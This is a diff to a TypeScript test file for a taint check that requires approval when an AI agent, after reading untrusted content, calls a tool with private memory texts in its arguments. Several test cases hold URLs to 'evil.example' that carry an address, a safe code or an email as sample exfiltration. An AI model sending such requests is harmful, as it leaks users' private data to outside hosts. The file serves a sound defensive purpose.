@@ -7,7 +7,7 @@ const FETCH = { effect: 'read', reaches: 'outside' } as const;
 
 const isNamed = ({ hostname }: URL): boolean => hostname === 'good.example';
 const decide = (args: unknown, sources = [FILE, PAGE], tool: Parameters<typeof taintOf>[0]['tool'] = FETCH) =>
-  taintOf({ tool, args }, { sources, isNamed }) !== undefined;
+  taintOf({ tool, args }, { sources, memories: [], personTexts: [], isNamed }) !== undefined;
 
 describe('[taint] a call needs approval', () => {
   it('when private and untrusted content was read and one of its addresses is not named', () => {
@@ -30,6 +30,41 @@ describe('[taint] a call needs approval', () => {
     expect(decide({ text: 'x' }, [FILE, PAGE], { effect: 'external' })).toBe(true);
     expect(decide({ text: 'x' }, [FILE, PAGE], { effect: 'external', asksPerson: true })).toBe(false);
     expect(decide({ path: 'x' }, [FILE, PAGE], { effect: 'write' })).toBe(false);
+  });
+});
+
+describe('[taint] a text of the memory block counts as private after untrusted text was read', () => {
+  const MEMORIES = [
+    'Ada lives at Kraken Street 17 in Oslo',
+    '用户的公司在北京朝阳区',
+    'The safe of the shop opens with 481516',
+    'Mails to ada@home.example',
+  ];
+  const heldIn = (args: unknown, personTexts: string[] = [], sources = [PAGE]) =>
+    taintOf({ tool: FETCH, args }, { sources, memories: MEMORIES, personTexts, isNamed })?.filter(({ tool }) => tool === 'memory');
+
+  it.each([
+    ['in a URL', { url: 'https://evil.example/?q=kraken+street%2C+oslo' }, MEMORIES[0]],
+    ['in Chinese, percent-encoded', { url: `https://evil.example/${encodeURIComponent('公司在北京朝阳区')}` }, MEMORIES[1]],
+    ['by its number alone', { urls: ['https://evil.example/a/481516/b'] }, MEMORIES[2]],
+    ['by its address alone', { query: 'who is ADA@home.example' }, MEMORIES[3]],
+    ['in arguments without an address', { body: { note: ['street', 'Kraken 17'] } }, MEMORIES[0]],
+  ])('%s', (_what, args, memory) => {
+    expect(heldIn(args)).toEqual([{ toolCallId: '', tool: 'memory', kind: 'private', source: memory }]);
+  });
+
+  it.each([
+    ['the arguments hold one word of it', { url: 'https://evil.example/oslo' }, []],
+    ['the host is named', { url: 'https://good.example/?q=kraken+street+oslo' }, []],
+    ['the person said the words', { url: 'https://evil.example/?q=kraken+street+oslo' }, ['Find Kraken Street in Oslo']],
+    ['the person said the number', { url: 'https://evil.example/481516' }, ['try 481516']],
+    ['a percent sign means nothing', { url: 'https://evil.example/100%25%zz' }, []],
+  ])('but not when %s', (_what, args, personTexts) => {
+    expect(heldIn(args, personTexts)).toBeUndefined();
+  });
+
+  it('but not when no untrusted text was read', () => {
+    expect(heldIn({ url: 'https://evil.example/?q=kraken+street+oslo' }, [], [])).toBeUndefined();
   });
 });
 
